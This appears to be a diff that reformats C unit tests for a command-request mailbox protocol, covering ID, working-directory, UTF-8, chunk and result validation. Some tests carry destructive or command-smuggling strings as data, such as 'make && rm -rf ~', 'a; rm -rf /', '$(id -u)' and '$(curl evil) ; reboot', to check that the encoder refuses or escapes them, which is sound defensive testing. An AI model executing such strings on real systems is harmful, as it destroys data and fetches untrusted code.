@@ -180,10 +180,14 @@ static void valid_record(uint16_t type)
     lz_mbx_request q = simple_request(argv, 2, "/workspace");
     lz_mbx_control c = { .capability = CAP, .request_id = RID, .acked = 3 };
     static const uint8_t bytes[] = "hello\n";
-    lz_mbx_chunk k = { .request_id = RID, .seq = 7, .stream = LZ_MBX_STDERR, .data = bytes,
-                       .len = 6 };
-    lz_mbx_result r = { .request_id = RID, .outcome = LZ_MBX_COMPLETED, .status = 1,
-                        .n_chunks = 2, .message = (char *) "exit 1" };
+    lz_mbx_chunk k = {
+        .request_id = RID, .seq = 7, .stream = LZ_MBX_STDERR, .data = bytes, .len = 6
+    };
+    lz_mbx_result r = { .request_id = RID,
+                        .outcome = LZ_MBX_COMPLETED,
+                        .status = 1,
+                        .n_chunks = 2,
+                        .message = (char *) "exit 1" };
     switch (type) {
     case LZ_MBX_REQUEST:
         lz_mbx_request_encode(&b, &q);
@@ -229,9 +233,12 @@ static void test_bad_ids_refused(void **state)
 {
     (void) state;
     const char *bad[] = {
-        "0123456789ABCDEF0123456789abcdef", "0123456789abcdeg0123456789abcdef",
-        "0123456789abcdef0123456789abcde",  "0123456789abcdef0123456789abcdef0",
-        "",                                 "-123456789abcdef0123456789abcdef",
+        "0123456789ABCDEF0123456789abcdef",
+        "0123456789abcdeg0123456789abcdef",
+        "0123456789abcdef0123456789abcde",
+        "0123456789abcdef0123456789abcdef0",
+        "",
+        "-123456789abcdef0123456789abcdef",
     };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(bad); i++) {
         for (int field = 0; field < 2; field++) {
@@ -403,8 +410,7 @@ static void test_oversized_record(void **state)
 static void test_request_round_trip(void **state)
 {
     (void) state;
-    char *argv[] = { (char *) "/usr/bin/make", (char *) "-C", (char *) "", (char *) "all",
-                     NULL };
+    char *argv[] = { (char *) "/usr/bin/make", (char *) "-C", (char *) "", (char *) "all", NULL };
     lz_mbx_request m = simple_request(argv, 4, "/workspace/src");
     m.why = (char *) "build the \xc3\xa9l\xc3\xa8ve target \xe2\x9c\x93";
     lz_mbx_request_encode(&b, &m);
@@ -576,8 +582,8 @@ static void test_request_argc_field(void **state)
 static void test_request_relative_program(void **state)
 {
     (void) state;
-    const char *progs[] = { "ls", "./x", "", "bin/ls", "~/bin/x", " /bin/ls", "ls -la",
-                            "make && rm -rf ~" };
+    const char *progs[] = { "ls",      "./x",      "",       "bin/ls",
+                            "~/bin/x", " /bin/ls", "ls -la", "make && rm -rf ~" };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(progs); i++) {
         char *argv[] = { (char *) progs[i], (char *) "-l", NULL };
         lz_mbx_request m = simple_request(argv, 2, "/workspace");
@@ -602,16 +608,18 @@ static void test_request_relative_program(void **state)
 static void test_request_cwd(void **state)
 {
     (void) state;
-    const char *bad[] = { "/a/../b", "/a/./b", "/a//b", "/a/", "//", "/..", "/.", "/a/..",
-                          "/a/.", "a/b", "", ".", "..", "workspace", "//workspace" };
+    const char *bad[] = { "/a/../b", "/a/./b", "/a//b", "/a/",       "//",
+                          "/..",     "/.",     "/a/..", "/a/.",      "a/b",
+                          "",        ".",      "..",    "workspace", "//workspace" };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(bad); i++) {
         char *argv[] = { (char *) "/bin/pwd", NULL };
         lz_mbx_request m = simple_request(argv, 1, bad[i]);
         assert_non_null(strstr(lz_mbx_request_problem(&m), "working directory"));
         refuse_encoded(&m);
     }
-    const char *good[] = { "/", "/a", "/a/b", "/a/...", "/a/.b", "/a/..b", "/a/b.", "/a b/c",
-                           "/\xc3\xa9t\xc3\xa9" };
+    const char *good[] = { "/",      "/a",     "/a/b",
+                           "/a/...", "/a/.b",  "/a/..b",
+                           "/a/b.",  "/a b/c", "/\xc3\xa9t\xc3\xa9" };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(good); i++) {
         char *argv[] = { (char *) "/bin/pwd", NULL };
         lz_mbx_request m = simple_request(argv, 1, good[i]);
@@ -658,7 +666,8 @@ static void test_request_utf8(void **state)
         assert_non_null(strstr(lz_mbx_request_problem(&m), "justification"));
         refuse_encoded(&m);
         /* in a result's message */
-        lz_mbx_result r = { .request_id = RID, .outcome = LZ_MBX_FAILED,
+        lz_mbx_result r = { .request_id = RID,
+                            .outcome = LZ_MBX_FAILED,
                             .message = (char *) bad[i] };
         lz_mbx_result_encode(&b, &r);
         expect_refused(b.data, b.len);
@@ -719,10 +728,17 @@ static void test_request_nul_inside(void **state)
 static void test_request_shell_metacharacters_are_data(void **state)
 {
     (void) state;
-    char *argv[] = { (char *) "/usr/bin/printf", (char *) "%s\\n", (char *) "a; rm -rf /",
-                     (char *) "x && y || z", (char *) "$(id -u)", (char *) "`id`",
-                     (char *) "| > /etc/passwd < * ? ~ #", (char *) "'\"\\", (char *) "a\nb",
-                     (char *) "${HOME}", NULL };
+    char *argv[] = { (char *) "/usr/bin/printf",
+                     (char *) "%s\\n",
+                     (char *) "a; rm -rf /",
+                     (char *) "x && y || z",
+                     (char *) "$(id -u)",
+                     (char *) "`id`",
+                     (char *) "| > /etc/passwd < * ? ~ #",
+                     (char *) "'\"\\",
+                     (char *) "a\nb",
+                     (char *) "${HOME}",
+                     NULL };
     lz_mbx_request m = simple_request(argv, 10, "/workspace");
     m.why = (char *) "$(curl evil) ; reboot";
     lz_mbx_request_encode(&b, &m);
@@ -785,8 +801,11 @@ static void test_chunk_round_trip(void **state)
     const size_t lens[] = { 0, 1, 4096, LZ_MBX_MAX_CHUNK };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(lens); i++) {
         for (uint32_t stream = LZ_MBX_STDOUT; stream <= LZ_MBX_STDERR; stream++) {
-            lz_mbx_chunk k = { .request_id = RID, .seq = (uint32_t) i * 1000u + stream,
-                               .stream = stream, .data = data, .len = lens[i] };
+            lz_mbx_chunk k = { .request_id = RID,
+                               .seq = (uint32_t) i * 1000u + stream,
+                               .stream = stream,
+                               .data = data,
+                               .len = lens[i] };
             lz_mbx_chunk_encode(&b, &k);
             lz_mbx_chunk d;
             assert_true(lz_mbx_chunk_decode(b.data, b.len, &d));
@@ -805,14 +824,15 @@ static void test_chunk_round_trip(void **state)
     }
     expect_only(&b, LZ_MBX_CHUNK);
     /* 16385 bytes */
-    lz_mbx_chunk k = { .request_id = RID, .stream = LZ_MBX_STDOUT, .data = data,
-                       .len = LZ_MBX_MAX_CHUNK + 1 };
+    lz_mbx_chunk k = {
+        .request_id = RID, .stream = LZ_MBX_STDOUT, .data = data, .len = LZ_MBX_MAX_CHUNK + 1
+    };
     lz_mbx_chunk_encode(&b, &k);
     expect_refused(b.data, b.len);
     /* streams other than 1 and 2 */
     const uint32_t streams[] = { 0, 3, 0x100u | LZ_MBX_STDOUT, UINT32_MAX };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(streams); i++) {
-        k = (lz_mbx_chunk) { .request_id = RID, .stream = streams[i], .data = data, .len = 1 };
+        k = (lz_mbx_chunk){ .request_id = RID, .stream = streams[i], .data = data, .len = 1 };
         lz_mbx_chunk_encode(&b, &k);
         expect_refused(b.data, b.len);
     }
@@ -830,8 +850,11 @@ static void test_result_round_trip(void **state)
     msg[LZ_MBX_MAX_MESSAGE] = '\0';
     const uint32_t statuses[] = { 0, 1, 127, 128 + 9, 255, 255 + 128 };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(statuses); i++) {
-        lz_mbx_result r = { .request_id = RID, .outcome = LZ_MBX_COMPLETED,
-                            .status = statuses[i], .n_chunks = (uint32_t) i, .message = msg };
+        lz_mbx_result r = { .request_id = RID,
+                            .outcome = LZ_MBX_COMPLETED,
+                            .status = statuses[i],
+                            .n_chunks = (uint32_t) i,
+                            .message = msg };
         lz_mbx_result_encode(&b, &r);
         lz_mbx_result d;
         assert_true(lz_mbx_result_decode(b.data, b.len, &d));
@@ -870,12 +893,12 @@ static void test_result_round_trip(void **state)
     expect_refused(b.data, b.len);
     const uint32_t outcomes[] = { 0, LZ_MBX_FAILED + 1, UINT32_MAX };
     for (size_t i = 0; i < LZ_ARRAY_SIZE(outcomes); i++) {
-        r = (lz_mbx_result) { .request_id = RID, .outcome = outcomes[i] };
+        r = (lz_mbx_result){ .request_id = RID, .outcome = outcomes[i] };
         lz_mbx_result_encode(&b, &r);
         expect_refused(b.data, b.len);
     }
     char *long_msg = rep('m', LZ_MBX_MAX_MESSAGE + 1);
-    r = (lz_mbx_result) { .request_id = RID, .outcome = LZ_MBX_FAILED, .message = long_msg };
+    r = (lz_mbx_result){ .request_id = RID, .outcome = LZ_MBX_FAILED, .message = long_msg };
     lz_mbx_result_encode(&b, &r);
     expect_refused(b.data, b.len);
     free(long_msg);
